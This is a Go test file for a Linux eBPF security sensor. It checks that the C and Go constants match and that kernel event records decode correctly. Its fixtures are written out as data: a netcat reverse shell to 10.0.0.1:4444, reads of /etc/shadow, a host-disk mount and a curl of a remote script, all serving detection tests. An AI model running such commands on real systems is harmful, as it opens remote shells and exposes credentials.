//go:build linux && amd64

package ebpf

import (
	"bufio"
	"encoding/binary"
	"errors"
	"os"
	"reflect"
	"strconv"
	"strings"
	"testing"
	"unsafe"

	"github.com/picket-cdr/picket/internal/runtime/event"
	"github.com/picket-cdr/picket/internal/runtime/sensor/procfs"
)

// TestHeaderMatchesGo checks the Go constants against bpf/picket.h, so the
// C and Go sides cannot drift apart silently.
func TestHeaderMatchesGo(t *testing.T) {
	f, err := os.Open("../../../../bpf/picket.h")
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	defs := map[string]int64{}
	sc := bufio.NewScanner(f)
	for sc.Scan() {
		fs := strings.Fields(sc.Text())
		if len(fs) >= 3 && fs[0] == "#define" {
			if n, err := strconv.ParseInt(fs[2], 0, 64); err == nil {
				defs[fs[1]] = n
			}
		}
	}
	want := map[string]int64{
		"KIND_EXEC": kindExec, "KIND_FORK": kindFork, "KIND_EXIT": kindExit, "KIND_SYSCALL": kindSyscall, "KIND_OPEN_RESOLVED": kindOpen,
		"HDR_TTY": hdrTTY, "EXEC_ARGS_TRUNCATED": execArgsTruncated, "EXEC_OVERLAY": execOverlay, "EXEC_UPPER": execUpper, "EXEC_DELETED": execDeleted,
		"PATH_TRUNCATED": pathTruncated, "PATH_PSEUDO": pathPseudo, "AUX_SOCKET": auxSocket, "AUX_RELATIVE": auxRelative,
		"OP_CONNECT": opConnect, "OP_ACCEPT": opAccept, "OP_ACCEPT4": opAccept4, "OP_BIND": opBind, "OP_DUP2": opDup2, "OP_DUP3": opDup3,
		"OP_OPEN": opOpen, "OP_OPENAT": opOpenat, "OP_OPENAT2": opOpenat2, "OP_CHMOD": opChmod, "OP_FCHMOD": opFchmod, "OP_FCHMODAT": opFchmodat,
		"OP_SETUID": opSetuid, "OP_SETREUID": opSetreuid, "OP_SETRESUID": opSetresuid, "OP_SETGID": opSetgid, "OP_SETREGID": opSetregid,
		"OP_SETRESGID": opSetresgid, "OP_CAPSET": opCapset, "OP_PTRACE": opPtrace, "OP_MEMFD_CREATE": opMemfdCreate, "OP_EXECVEAT": opExecveat,
		"OP_INIT_MODULE": opInitModule, "OP_FINIT_MODULE": opFinitModule, "OP_MOUNT": opMount, "OP_UNSHARE": opUnshare, "OP_SETNS": opSetns,
		"OP_FCHMODAT2": opFchmodat2, "WATCH_KEY_LEN": watchKeyLen, "WATCH_NAME_LEN": watchNameLen, "OVERLAYFS_SUPER_MAGIC": overlayfsMagic,
		"PATH_DEPTH": int64(len(picketPathParts{}.Name)), "PATH_NAME_LEN": int64(len(picketPathParts{}.Name[0])),
		"ARGS_LEN": int64(len(picketExecEvent{}.Args)), "PATH_LEN": int64(len(picketSysEvent{}.Path)), "ADDR_LEN": int64(len(picketSysEvent{}.Addr)),
	}
	for name, v := range want {
		got, ok := defs[name]
		if !ok {
			t.Errorf("%s: not defined in picket.h", name)
		} else if got != v {
			t.Errorf("%s = %d in picket.h, %d in Go", name, got, v)
		}
	}
	for nr, op := range syscallOps {
		if nr >= int(defs["MAX_SYSCALL_NR"]) || opKind[op] == "" {
			t.Errorf("syscall %d → op %d: out of range or no kind", nr, op)
		}
	}
}

// record copies a generated struct into an 8-byte-aligned buffer, as the
// ring buffer delivers it.
func record[T any](v *T) []byte {
	n := int(unsafe.Sizeof(*v))
	buf := make([]uint64, (n+7)/8)
	b := unsafe.Slice((*byte)(unsafe.Pointer(&buf[0])), n)
	copy(b, unsafe.Slice((*byte)(unsafe.Pointer(v)), n))
	return b
}

func setStr[T int8 | uint8](dst []T, s string) {
	for i := range dst {
		dst[i] = 0
	}
	for i := 0; i < len(s) && i < len(dst)-1; i++ {
		dst[i] = T(s[i])
	}
}

func setPath(p *picketPathParts, path string, flags uint32) {
	parts := strings.Split(strings.Trim(path, "/"), "/")
	p.Depth = uint32(len(parts))
	p.Flags = flags
	for i, c := range parts { // leaf first
		setStr(p.Name[len(parts)-1-i][:], c)
	}
}

func testSensor(t testing.TB) *Sensor {
	cfg, err := newConfig(nil)
	if err != nil {
		t.Fatal(err)
	}
	dir := t.TempDir() // an empty /proc: no enrichment
	return &Sensor{cfg: cfg, clk: &clock{}, fs: procfs.New(dir, dir), procs: newProcCache(16), fuse: newFuseLayers(dir)}
}

func hdr(kind uint32) picketHdr {
	h := picketHdr{Ktime: 1_000_000_000, CgroupId: 4242, Kind: kind, Pid: 100, Tid: 101, Ppid: 1, Uid: 1000, Gid: 1001, Euid: 0, Egid: 0, MntNs: 7, PidNs: 8, Flags: hdrTTY}
	setStr(h.Comm[:], "nc")
	return h
}

func TestDecodeExec(t *testing.T) {
	s := testSensor(t)
	x := picketExecEvent{H: hdr(kindExec), ExecFlags: execOverlay | execUpper, ExeMagic: overlayfsMagic}
	setStr(x.Filename[:], "/bin/nc")
	args := "nc\x00-e\x00/bin/sh\x0010.0.0.1\x004444\x00"
	setStr(x.Args[:], args)
	x.ArgsLen = uint32(len(args))
	setPath(&x.Exe, "/bin/busybox", 0)
	setPath(&x.Cwd, "/tmp/work", 0)
	e, err := s.decode(record(&x))
	if err != nil {
		t.Fatal(err)
	}
	want := event.Process{PID: 100, TID: 101, PPID: 1, UID: 1000, GID: 1001, Comm: "nc", Exe: "/bin/busybox", Filename: "/bin/nc",
		Args: []string{"nc", "-e", "/bin/sh", "10.0.0.1", "4444"}, Cwd: "/tmp/work", TTY: true, CgroupID: 4242, MntNS: 7, PidNS: 8, UpperLayer: true}
	if e.Kind != event.Exec || e.KernelTime != 1_000_000_000 || !reflect.DeepEqual(e.Proc, want) {
		t.Errorf("got %+v\nwant %+v", e.Proc, want)
	}
	// Fork then exit of the same process carry the cached exec details.
	f := picketForkEvent{H: hdr(kindFork)}
	f.H.Pid, f.H.Ppid = 200, 100
	fe, err := s.decode(record(&f))
	if err != nil || fe.Kind != event.Fork || fe.Proc.Exe != "/bin/busybox" || fe.Proc.ParentExe != "/bin/busybox" {
		t.Errorf("fork: %v %+v", err, fe)
	}
	x2 := picketExitEvent{H: hdr(kindExit), ExitCode: 9} // killed by SIGKILL
	ee, err := s.decode(record(&x2))
	if err != nil || ee.Kind != event.Exit || ee.Signal != 9 || ee.ExitCode != 0 || ee.Proc.Exe != "/bin/busybox" {
		t.Errorf("exit: %v %+v", err, ee)
	}
	x2.ExitCode = 3 << 8
	ee, _ = s.decode(record(&x2))
	if ee.ExitCode != 3 || ee.Signal != 0 {
		t.Errorf("exit 3: %+v", ee)
	}
}

func TestDecodeSyscalls(t *testing.T) {
	sockIn := func(ip [4]byte, port uint16) []byte {
		b := make([]byte, 16)
		binary.LittleEndian.PutUint16(b, afInet)
		binary.BigEndian.PutUint16(b[2:], port)
		copy(b[4:], ip[:])
		return b
	}
	sockUnix := func(p string) []byte {
		b := make([]byte, 2+len(p)+1)
		binary.LittleEndian.PutUint16(b, afUnix)
		copy(b[2:], p)
		return b
	}
	local := picketSockInfo{Valid: 1, Family: afInet, Type: 1, Protocol: 6, Sport: 40000, Dport: 4444}
	copy(local.Saddr[:], []byte{172, 17, 0, 2})
	copy(local.Daddr[:], []byte{10, 0, 0, 1})
	tests := []struct {
		name  string
		op    uint32
		args  [6]uint64
		addr  []byte
		sock  picketSockInfo
		path  string
		path2 string
		aux   uint32
		ret   int64
		check func(t *testing.T, e *event.Event)
	}{
		{name: "connect ipv4", op: opConnect, addr: sockIn([4]byte{10, 0, 0, 1}, 4444), sock: local, ret: -115,
			check: func(t *testing.T, e *event.Event) {
				want := event.Net{Family: "ipv4", Proto: "tcp", SrcIP: "172.17.0.2", SrcPort: 40000, DstIP: "10.0.0.1", DstPort: 4444}
				if e.Kind != event.Connect || *e.Net != want || e.Ret != -115 {
					t.Errorf("%+v", *e.Net)
				}
			}},
		{name: "connect docker.sock", op: opConnect, addr: sockUnix("/var/run/docker.sock"),
			check: func(t *testing.T, e *event.Event) {
				if e.Net.Family != "unix" || e.Net.Path != "/var/run/docker.sock" {
					t.Errorf("%+v", *e.Net)
				}
			}},
		{name: "connect abstract", op: opConnect, addr: []byte{afUnix, 0, 0, 'a', 'b', 's'},
			check: func(t *testing.T, e *event.Event) {
				if e.Net.Path != "@abs" {
					t.Errorf("%+v", *e.Net)
				}
			}},
		{name: "accept", op: opAccept4, sock: local, ret: 5,
			check: func(t *testing.T, e *event.Event) {
				if e.Kind != event.Accept || e.Net.SrcIP != "10.0.0.1" || e.Net.SrcPort != 4444 || e.Net.DstPort != 40000 {
					t.Errorf("%+v", *e.Net)
				}
			}},
		{name: "dup2 socket", op: opDup2, args: [6]uint64{3, 0}, aux: auxSocket, sock: local,
			check: func(t *testing.T, e *event.Event) {
				if e.Kind != event.DupFD || *e.Dup != (event.Dup{OldFD: 3, NewFD: 0, Socket: true}) || e.Net.DstIP != "10.0.0.1" {
					t.Errorf("%+v %+v", *e.Dup, e.Net)
				}
			}},
		{name: "openat write", op: opOpenat, args: [6]uint64{^uint64(99), 0, 0o1101, 0o644}, path: "/bin/evil", ret: 3,
			check: func(t *testing.T, e *event.Event) {
				if e.Kind != event.Open || *e.File != (event.File{Path: "/bin/evil", Flags: 0o1101, Mode: 0o644, Write: true}) {
					t.Errorf("%+v", *e.File)
				}
			}},
		{name: "open read", op: opOpen, args: [6]uint64{0, 0}, path: "/etc/shadow", ret: -13,
			check: func(t *testing.T, e *event.Event) {
				if e.File.Write || e.File.Path != "/etc/shadow" || e.Ret != -13 {
					t.Errorf("%+v", *e.File)
				}
			}},
		{name: "fchmodat", op: opFchmodat, args: [6]uint64{0, 0, 0o755}, path: "/tmp/x",
			check: func(t *testing.T, e *event.Event) {
				if e.Kind != event.Chmod || e.File.Mode != 0o755 || e.File.Path != "/tmp/x" {
					t.Errorf("%+v", *e.File)
				}
			}},
		{name: "setresuid", op: opSetresuid, args: [6]uint64{0xffffffff, 0, 0xffffffff},
			check: func(t *testing.T, e *event.Event) {
				if e.Kind != event.SetUID || e.Cred.UID != 0 || e.Cred.GID != 1001 {
					t.Errorf("%+v", *e.Cred)
				}
			}},
		{name: "setregid keeps real when effective is -1", op: opSetregid, args: [6]uint64{50, 0xffffffff},
			check: func(t *testing.T, e *event.Event) {
				if e.Kind != event.SetGID || e.Cred.GID != 50 || e.Cred.UID != 1000 {
					t.Errorf("%+v", *e.Cred)
				}
			}},
		{name: "capset", op: opCapset, args: [6]uint64{0, 0, 0, 1 << 21},
			check: func(t *testing.T, e *event.Event) {
				if e.Kind != event.Capset || e.Cred.CapEffective != 1<<21 {
					t.Errorf("%+v", *e.Cred)
				}
			}},
		{name: "ptrace", op: opPtrace, args: [6]uint64{16, 77},
			check: func(t *testing.T, e *event.Event) {
				if *e.Ptrace != (event.Ptrace{Request: 16, TargetPID: 77}) {
					t.Errorf("%+v", *e.Ptrace)
				}
			}},
		{name: "memfd", op: opMemfdCreate, args: [6]uint64{0, 1}, path: "x",
			check: func(t *testing.T, e *event.Event) {
				if e.Kind != event.Memfd || e.File.Path != "x" || e.File.Flags != 1 {
					t.Errorf("%+v", *e.File)
				}
			}},
		{name: "mount", op: opMount, args: [6]uint64{0, 0, 0, 4096}, path: "/dev/sda1", path2: "/host", addr: []byte("ext4\x00"),
			check: func(t *testing.T, e *event.Event) {
				if *e.Mount != (event.Mount{Source: "/dev/sda1", Target: "/host", FSType: "ext4", Flags: 4096}) {
					t.Errorf("%+v", *e.Mount)
				}
			}},
		{name: "unshare", op: opUnshare, args: [6]uint64{0x20000},
			check: func(t *testing.T, e *event.Event) {
				if e.Kind != event.Unshare || e.NS.Flags != 0x20000 {
					t.Errorf("%+v", *e.NS)
				}
			}},
		{name: "setns", op: opSetns, args: [6]uint64{5, 0x40000000},
			check: func(t *testing.T, e *event.Event) {
				if e.Kind != event.Setns || *e.NS != (event.NS{FD: 5, Flags: 0x40000000}) {
					t.Errorf("%+v", *e.NS)
				}
			}},
		{name: "init_module", op: opInitModule, ret: -1,
			check: func(t *testing.T, e *event.Event) {
				if e.Kind != event.ModuleLoad || e.Module.FD != -1 {
					t.Errorf("%+v", *e.Module)
				}
			}},
	}
	s := testSensor(t)
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			r := picketSysEvent{H: hdr(kindSyscall), Op: tc.op, Args: tc.args, Aux: tc.aux, Sock: tc.sock}
			r.H.Ret = tc.ret
			copy(r.Addr[:], tc.addr)
			r.AddrLen = uint32(len(tc.addr))
			setStr(r.Path[:], tc.path)
			setStr(r.Path2[:], tc.path2)
			e, err := s.decode(record(&r))
			if err != nil {
				t.Fatal(err)
			}
			if e.Proc.PID != 100 || e.Proc.CgroupID != 4242 || e.Sensor != Name {
				t.Errorf("proc %+v", e.Proc)
			}
			tc.check(t, e)
		})
	}
}

func TestDecodeRelativeOpen(t *testing.T) {
	s := testSensor(t)
	o := picketOpenEvent{S: picketSysEvent{H: hdr(kindOpen), Op: opOpenat, Aux: auxRelative, Args: [6]uint64{^uint64(99)}}}
	o.S.H.Ret = 3
	setStr(o.S.Path[:], "shadow")
	setPath(&o.Resolved, "/etc/shadow", 0)
	e, err := s.decode(record(&o))
	if err != nil || e == nil || e.File.Path != "/etc/shadow" {
		t.Fatalf("%v %+v", err, e)
	}
	setPath(&o.Resolved, "/home/u/notes.txt", 0) // not watched: filtered
	if e, err := s.decode(record(&o)); err != nil || e != nil {
		t.Fatalf("unwatched relative open: %v %+v", err, e)
	}
	// Failed relative open of a process /proc no longer has: skipped.
	o.S.H.Ret = -2
	o.S.H.Kind = kindSyscall
	if e, err := s.decode(record(&o.S)); err != nil || e != nil || s.skipped.Load() != 1 {
		t.Fatalf("unresolvable: %v %+v skipped %d", err, e, s.skipped.Load())
	}
}

func TestDecodeRuntimeSetupSkipped(t *testing.T) {
	s := testSensor(t)
	r := picketSysEvent{H: hdr(kindSyscall), Op: opMount}
	setStr(r.H.Comm[:], "runc:[2:INIT]")
	if e, err := s.decode(record(&r)); err != nil || e != nil {
		t.Fatalf("%v %+v", err, e)
	}
	s.cfg.runtimeSetup = true
	if e, err := s.decode(record(&r)); err != nil || e == nil || e.Kind != event.MountOp {
		t.Fatalf("kept: %v %+v", err, e)
	}
}

func TestJoinPath(t *testing.T) {
	var p picketPathParts
	setPath(&p, "/a/b/c", 0)
	if got := joinPath(&p); got != "/a/b/c" {
		t.Errorf("got %q", got)
	}
	setPath(&p, "/memfd:x (deleted)", pathPseudo)
	if got := joinPath(&p); got != "memfd:x (deleted)" {
		t.Errorf("pseudo: %q", got)
	}
	setPath(&p, "/deep/er", pathTruncated)
	if got := joinPath(&p); got != ".../deep/er" {
		t.Errorf("truncated: %q", got)
	}
	p = picketPathParts{}
	if got := joinPath(&p); got != "/" {
		t.Errorf("root: %q", got)
	}
	p.Depth = 1000 // corrupt: bounded by the array
	if got := joinPath(&p); got != "/" {
		t.Errorf("corrupt depth: %q", got)
	}
}

func TestViewRejects(t *testing.T) {
	h := hdr(kindExec)
	short := record(&h) // an exec kind with only a header
	if _, err := view(short); !errors.Is(err, ErrRecord) {
		t.Errorf("short exec: %v", err)
	}
	h.Kind = 99
	if _, err := view(record(&h)); !errors.Is(err, ErrRecord) {
		t.Errorf("unknown kind: %v", err)
	}
	if _, err := view(make([]byte, 3)); !errors.Is(err, ErrRecord) {
		t.Errorf("tiny: %v", err)
	}
	r := picketSysEvent{H: hdr(kindSyscall), Op: 200}
	if _, err := view(record(&r)); !errors.Is(err, ErrRecord) {
		t.Errorf("bad op: %v", err)
	}
	o := picketOpenEvent{S: picketSysEvent{H: hdr(kindOpen), Op: opConnect}}
	if _, err := view(record(&o)); !errors.Is(err, ErrRecord) {
		t.Errorf("resolved open with connect op: %v", err)
	}
}

// FuzzDecode feeds arbitrary records to the decoder: it must return an
// error or an event, never panic or read out of bounds.
func FuzzDecode(f *testing.F) {
	x := picketExecEvent{H: hdr(kindExec), ArgsLen: 5000}
	setPath(&x.Exe, "/bin/sh", 0)
	f.Add(record(&x))
	sy := picketSysEvent{H: hdr(kindSyscall), Op: opConnect, AddrLen: 999}
	f.Add(record(&sy))
	o := picketOpenEvent{S: picketSysEvent{H: hdr(kindOpen), Op: opOpen, Aux: auxRelative}}
	o.Resolved.Depth = 99
	f.Add(record(&o))
	s := testSensor(f)
	s.cfg.relativeBudget = 0
	f.Fuzz(func(t *testing.T, b []byte) {
		buf := make([]uint64, (len(b)+7)/8+1)
		ab := unsafe.Slice((*byte)(unsafe.Pointer(&buf[0])), len(b))
		copy(ab, b)
		e, err := s.decode(ab)
		if err == nil && e != nil && e.Kind == "" {
			t.Fatalf("event without a kind: %+v", e)
		}
	})
}

func BenchmarkDecodeExec(b *testing.B) {
	s := testSensor(b)
	x := picketExecEvent{H: hdr(kindExec)}
	setStr(x.Filename[:], "/usr/bin/curl")
	args := "curl\x00-s\x00http://example.invalid/x.sh\x00"
	setStr(x.Args[:], args)
	x.ArgsLen = uint32(len(args))
	setPath(&x.Exe, "/usr/bin/curl", 0)
	setPath(&x.Cwd, "/root", 0)
	rec := record(&x)
	b.ReportAllocs()
	b.SetBytes(int64(len(rec)))
	for b.Loop() {
		if _, err := s.decode(rec); err != nil {
			b.Fatal(err)
		}
	}
}

func BenchmarkDecodeConnect(b *testing.B) {
	s := testSensor(b)
	r := picketSysEvent{H: hdr(kindSyscall), Op: opConnect, AddrLen: 16}
	binary.LittleEndian.PutUint16(r.Addr[:], afInet)
	binary.BigEndian.PutUint16(r.Addr[2:], 443)
	copy(r.Addr[4:], []byte{10, 1, 2, 3})
	s.procs.put(100, &procInfo{exe: "/usr/bin/curl", comm: "curl", args: []string{"curl"}})
	rec := record(&r)
	b.ReportAllocs()
	b.SetBytes(int64(len(rec)))
	for b.Loop() {
		if _, err := s.decode(rec); err != nil {
			b.Fatal(err)
		}
	}
}
